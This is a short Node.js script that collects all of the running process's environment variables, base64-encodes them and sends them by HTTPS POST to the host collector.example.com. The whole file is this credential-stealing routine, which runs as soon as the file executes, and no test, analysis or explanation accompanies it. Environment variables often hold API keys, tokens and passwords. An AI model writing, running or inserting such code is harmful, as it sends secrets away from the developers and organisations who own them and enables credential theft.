const https = require('https');

function gather() {
  return JSON.stringify(process.env);
}

function encode(text) {
  return Buffer.from(text).toString('base64');
}

function post(body) {
  const req = https.request({ hostname: 'collector.example.com', path: '/c', method: 'POST' });
  req.write(body);
  req.end();
}

const data = gather();
const packed = encode(data);
post(packed);
